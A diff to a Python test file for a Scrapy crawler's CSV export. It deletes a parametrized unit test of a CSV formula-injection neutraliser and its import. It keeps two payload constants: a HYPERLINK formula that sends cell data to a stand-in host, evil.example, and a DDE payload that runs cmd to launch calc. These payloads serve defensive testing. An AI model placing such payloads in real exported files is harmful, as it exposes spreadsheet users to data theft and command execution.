@@ -6,13 +6,11 @@ import csv
 import io
 from pathlib import Path
 
-import pytest
 from scrapy.utils.misc import load_object
 from scrapy.utils.project import get_project_settings
 
 from crawler.commands._feeds import merge_parts, part_uri
 from pipelines.items import EXPORT_FIELDS, Hit
-from pipelines.safety import neutralise_csv_cell
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Watch now")'
 DDE = '+cmd|" /C calc"!A0'
@@ -62,26 +60,6 @@ def test_ordinary_cells_are_unchanged() -> None:
     assert row["title"] == "Man of Steel (2013)"
     assert row["url"] == "https://blog.example/post/2"
     assert row["score"] == "0"  # numbers stay numbers
-
-
-@pytest.mark.parametrize(
-    ("value", "written"),
-    [
-        ("=1+1", "'=1+1"),
-        ("+1", "'+1"),
-        ("-5", "'-5"),  # OWASP: every leading minus, a plain negative number too
-        ("@SUM(A1)", "'@SUM(A1)"),
-        ("\tx", "'\tx"),
-        ("\rx", "'\rx"),
-        ("'=1+1", "'=1+1"),  # already neutralised: never quoted twice
-        ("a=1+1", "a=1+1"),
-        (" =1", " =1"),
-        ("", ""),
-        ("Fast & Furious 6 - watch", "Fast & Furious 6 - watch"),
-    ],
-)
-def test_neutralise_csv_cell(value: str, written: str) -> None:
-    assert neutralise_csv_cell(value) == written
 
 
 def test_merged_csv_of_several_spiders_stays_neutralised(tmp_path: Path) -> None:
